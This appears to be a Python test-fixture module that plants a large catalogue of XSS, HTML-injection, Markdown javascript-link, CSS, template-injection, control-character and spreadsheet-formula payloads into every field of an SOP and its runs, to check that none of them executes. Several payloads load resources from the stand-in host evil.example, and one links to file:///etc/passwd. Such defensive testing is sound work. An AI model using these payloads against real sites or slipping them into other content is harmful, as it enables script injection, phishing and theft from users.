"""Texts that want to be more than text, and a run whose every text is one of them.

`window.__hit` is what they set; none of them ever should.
"""

from dataclasses import dataclass
from typing import Any

AUDIENCES = ("leadership", "team", "department:lead", "auditor", "outside")
HIT = "window.__hit=1"
PAYLOADS = (
    # Scripts
    f"<script>{HIT}</script>",
    f"<ScRiPt\t>{HIT}</sCrIpT\n>",
    f"<script src=https://evil.example/x.js></script><script>{HIT}",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"</script><script>{HIT}</script>",
    f"<script type=module>import 'https://evil.example/m.js';{HIT}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/\"]}]}</script>",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"＜script＞{HIT}＜/script＞",
    # What ends the place that it stands in
    f"</title><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</textarea></noscript></template></xmp><img src=x onerror={HIT}>",
    f"--><img src=x onerror={HIT}><!--",
    f"]]><img src=x onerror={HIT}>",
    f"\"><img src=x onerror={HIT}>",
    f"'><img src=x onerror={HIT}>",
    f"\" autofocus tabindex=0 onfocus=\"{HIT}",
    f"' onmouseover='{HIT}' x='",
    f"` onclick=`{HIT}",
    f"\\\" onload=\\\"{HIT}",
    "</p></li></dd></td></tr></table></article></section></main></body></html>",
    "</svg></math></details></summary></a></pre></code>",
    "<!-- <plaintext>",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![CDATA[",
    "<?php echo 1 ?>",
    # Elements that load, run or take over
    f"<img src=x onerror={HIT}>",
    "<img srcset='https://evil.example/a.png 1x' loading=eager>",
    f"<svg onload={HIT}>",
    f"<svg><script href=https://evil.example/x.js></script><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/x.svg#a'></use><image href='https://evil.example/b.png'/></svg>",
    f"<svg><foreignObject><body onload={HIT}></foreignObject></svg>",
    f"<math><mtext></mtext><a xlink:href=\"javascript:{HIT}\">x</a></math>",
    f"<math><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={HIT}&gt;\">",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=\"javascript:parent.__hit=1\"></iframe>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    f"<video autoplay><source onerror={HIT}></video><audio src=x onerror={HIT}>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<input autofocus onfocus={HIT}><select autofocus onfocus={HIT}>",
    f"<marquee onstart={HIT}>x</marquee><body onpageshow={HIT}>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "<base href=https://evil.example/><a href=/x>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/y>",
    "<link rel=dns-prefetch href=//evil.example><link rel=manifest href=//evil.example/m>",
    "<template><div shadowrootmode=open>x</div></template><dialog open>x</dialog>",
    "<a href=https://evil.example/ ping=https://evil.example/p target=_blank id=_content name=main>x</a>",
    # Styles
    "<style>@import url(https://evil.example/i.css); *{background:url(https://evil.example/b)}</style>",
    "<p style=\"position:fixed;inset:0;background:url(https://evil.example/c)\">x</p>",
    "<div style='width:expression(window.__hit=1)'>x</div>",
    "}</style><style>body{display:none}",
    "@import 'https://evil.example/j.css';",
    "url(https://evil.example/k) expression(window.__hit=1) -moz-binding:url(//evil.example)",
    # Addresses and Markdown
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}//https://example.com/",
    f"java\tscript:{HIT}",
    f"[x](javascript:{HIT})",
    f"[x](&#106;avascript:{HIT})",
    f"[x](JAVASCRIPT&colon;{HIT} \"t\")",
    f"[x](<java&#x0A;script:{HIT}>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=window.__hit=1>)",
    f"[x](vbscript:{HIT}) [y](file:///etc/passwd) [z](blob:null/x)",
    f"<javascript:{HIT}>",
    "<https://evil.example/?\"onmouseover=window.__hit=1>",
    "![x](https://evil.example/p.png) ![y](data:image/png;base64,AA==)",
    f"![x](x\"onerror=\"{HIT})",
    "[![x](https://evil.example/q.png)](https://evil.example/)",
    f"[x]: javascript:{HIT} \"t\"\n\n[x]",
    f"[x](https://evil.example/ \"' onmouseover={HIT} \")",
    f"[<img src=x onerror={HIT}>](https://evil.example/)",
    f"`<img src=x onerror={HIT}>` ``</code><script>{HIT}</script>``",
    f"```html\" onmouseover=\"{HIT}\n</code></pre><script>{HIT}</script>\n```",
    f"    </pre><script>{HIT}</script>",
    "| a | <script>window.__hit=1</script> |\n|---|---|\n| </table> | <img src=x onerror=window.__hit=1> |",
    f"<div>\n\n<img src=x onerror={HIT}>\n\n</div>",
    "- [ ] <input type=image src=https://evil.example/r>\n  - </li></ul>",
    "# </h1><script>window.__hit=1</script>\n\n> </blockquote><iframe src=//evil.example>",
    "//evil.example/path \\\\evil.example\\share www.evil.example evil@evil.example",
    # Templates
    "{{ 7 * 7 }} {{ self.__init__.__globals__ }} {{ cycler.__init__ }}",
    "{% for x in [].__class__.__mro__ %}{{ x }}{% endfor %} {# hidden #}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {{constructor.constructor('window.__hit=1')()}}",
    "%(x)s %s {0} {run} {title.__class__} {detail}",
    # Signs
    "\u202e\u2066<gpj.exe>\u2069\u202c\u200b\u200f\ufeff",
    "nothing\u0000<script\u0000>window.__hit=1</script>",
    "\U0001f600 \U0001f1e8\U0001f1f3 e\u0301\u0301\u0301 \U000e0041\U000e0042",
    "\u2028\u2029\u0085\u001b[31m\u001b]8;;https://evil.example\u0007x\u0007\u0008\u000c",
    "W" * 400,
    "漢" * 300,
    "https://example.com/" + "a/" * 150,
    "\"'`\"\"''``«»<<>>&&amp;&amp;amp;&#0;&#x110000;&#xD800;&nbsp;&NotExists;",
    "= 1+1|cmd' /C calc'!A0",
)  # fmt: skip


def one_line(text: str) -> str:
    return " ".join(text.split())


def is_template(text: str) -> bool:
    return any(sign in text for sign in ("{{", "{%", "{#"))


def fixed(text: str) -> str:
    """The text, or another where it would be a template; such are refused where nothing is filled in."""
    return "no template" if is_template(text) else text


@dataclass
class Writer:
    """An SOP, and all that a run of it is told, with `words` in every text and `prose` wherever Markdown
    is read. Both have as many texts as there are steps of one kind.
    """

    words: tuple[str, ...]
    prose: tuple[str, ...]

    @property
    def all(self) -> str:
        return "\n".join(self.words)

    def sop(self) -> dict[str, Any]:
        words = [fixed(one) for one in self.words]
        lines = [one_line(one) for one in words]
        everything = " ".join(lines)
        return {
            "title": one_line(self._plain(0)), "summary": everything,
            "purpose": self._prose(), "scope": self._prose(),
            "version": lines[1][:60], "language": "en", "owner": "lead",
            "definitions": {f"{number} {line}": words[number] for number, line in enumerate(lines)},
            "tools": lines, "tags": lines[:1],
            "references": [{"title": line, "url": "https://example.com/?a='b'&c=(d)"} for line in lines],
            "changelog": {lines[1][:60]: lines},
            "roles": {"lead": everything} | {f"r{number}": word for number, word in enumerate(words)},
            "params": {f"p{number}": {"type": "longtext", "ask": line} for number, line in enumerate(lines)},
            "phases": [
                {"id": f"part{number}", "title": one_line(self._plain(number)), "steps": [self._step(number)]}
                for number in range(len(words))
            ] + [{"id": "last", "title": "Last", "steps": self._states()}],
        }  # fmt: skip

    def _plain(self, number: int) -> str:
        """The word for a text that names may stand in: one that would be such a place is put in quotes."""
        word = self.words[number]
        return f"{{{{ p{number} }}}}" if is_template(word) else word

    def _prosaic(self, number: int) -> str:
        word = self.prose[number]
        return f"{{{{ p{number} }}}}" if is_template(word) else word

    def _prose(self) -> str:
        return "\n\n".join(map(fixed, self.prose))

    def _step(self, number: int) -> dict[str, Any]:
        word = fixed(self.words[number])
        line, plain = one_line(word), one_line(self._plain(number))
        prose = self._prosaic(number)
        return {
            "id": f"s{number}", "title": plain, "do": prose, "warning": prose, "caution": [prose],
            "owner": f"r{number}", "check": [plain], "run": line, "prompt": self._plain(number),
            "links": [{"title": line, "url": "https://example.com/"}],
            "evidence": [{"id": "e", "kind": "file", "ask": line}],
            "collect": {
                "short": {"type": "text", "ask": line, "help": word},
                "long": {"type": "longtext", "ask": line, "help": word},
                "amount": {"type": "integer", "ask": line, "unit": line[:40], "target": ">= 2"},
                "chosen": {"type": "choice", "ask": line, "options": [line, "other"]},
                "rows": {
                    "type": "table", "ask": line,
                    "columns": {"cell": {"type": "text", "ask": line}, "person": "person"},
                },
                "funnel": {"type": "funnel", "ask": line, "stages": [line, f"{line} 2"], "alert_below": 0.9},
            },
        }  # fmt: skip

    def _states(self) -> list[dict[str, Any]]:
        return [
            {"id": "left", "title": "Left", "takes": "1wd"},
            {"id": "stuck", "title": "Stuck", "takes": "1wd", "due": "start + 2d"},
            {"id": "begun", "title": "Begun", "takes": "1wd"},
            {"id": "signed", "title": "Signed", "approve": {"by": ["lead"]}},
            {"id": "waits", "title": "Waits", "approve": {"by": ["lead"]}},
            {"id": "refused", "title": "Refused", "approve": {"by": ["lead"]}, "collect": {"x": "text"}},
            {"id": "again", "title": "Again"},
            {"id": "behind", "title": "Behind", "needs": ["stuck"], "when": "p0 == 'never'"},
            {"id": "after", "title": "After", "needs": ["stuck"]},
        ]

    def values(self, name: str) -> dict[str, Any]:
        people = {f"r{number}": _person(self.words[number], number) for number in range(len(self.words))}
        return {
            "name": name,
            "params": {f"p{number}": word for number, word in enumerate(self.words)},
            "roles": {"lead": "Test Person <test@example.com>"} | people,
        }

    def files(self) -> list[str]:
        """The names of files that are attached."""
        return [_file(one, number) for number, one in enumerate(self.words)]

    def answers(self) -> dict[str, Any]:
        told = {}
        for number, word in enumerate(self.words):
            line = one_line(word)
            told[f"s{number}"] = {
                "as": _person(word, number),
                "set": {
                    "short": line, "long": word, "amount": number % 4, "chosen": fixed(line),
                    "funnel": [10, 5],
                    "rows": [{"cell": line, "person": _person(word, number)}] * 2,
                },
                "check": "all", "attach": {"e": _file(word, number)}, "note": word,
            }  # fmt: skip
        return told

    def acts(self, run: str) -> list[tuple[tuple[str, ...], str | None]]:
        """What is done then: words of the command line, and what is given to them."""
        reason = self.all
        wording = "\n".join(map(fixed, self.prose))
        return [
            (("skip", run, "left", reason), None),
            (("block", run, "stuck", reason), None),
            (("start", run, "begun"), None),
            (("note", run, "begun", reason, "--deviation"), None),
            (("redline", run, "begun", "--file", "-", "--reason", reason), wording),
            (("done", run, "signed"), None),
            (("approve", run, "signed"), None),
            (("done", run, "waits"), None),
            (("done", run, "refused", "--set", f"x={one_line(reason)}"), None),
            (("reject", run, "refused", reason), None),
            (("done", run, "again"), None),
            (("reopen", run, "again", reason), None),
        ]


# Four in each text: a quarter of the steps says as much.
GROUPS = tuple("\n\n".join(PAYLOADS[first : first + 4]) for first in range(0, len(PAYLOADS), 4))


def harmless(most: int = len(GROUPS)) -> Writer:
    """As many words that want nothing, so long and of so many lines that they are folded as others are."""
    words = tuple(f"word {number}{' and so on' * 7}" for number in range(most))
    return Writer(tuple("\n\n".join(f"{word} {line}" for line in range(4)) for word in words), words)


def in_texts() -> Writer:
    """Every payload in every text that is shown as it stands."""
    return Writer(GROUPS, harmless().prose)


def all_over() -> Writer:
    """And in Markdown."""
    return Writer(GROUPS, GROUPS)


def _person(word: str, number: int) -> str:
    name = "".join(sign for sign in one_line(word) if sign.isprintable() and sign not in "<>@")[:80]
    return f"{name} <p{number}@example.com>"


def _file(word: str, number: int) -> str:
    name = "".join(sign for sign in word if sign not in "/\0" and not "\ud800" <= sign <= "\udfff")
    return f"{number} {name.encode()[:180].decode(errors='ignore')}"
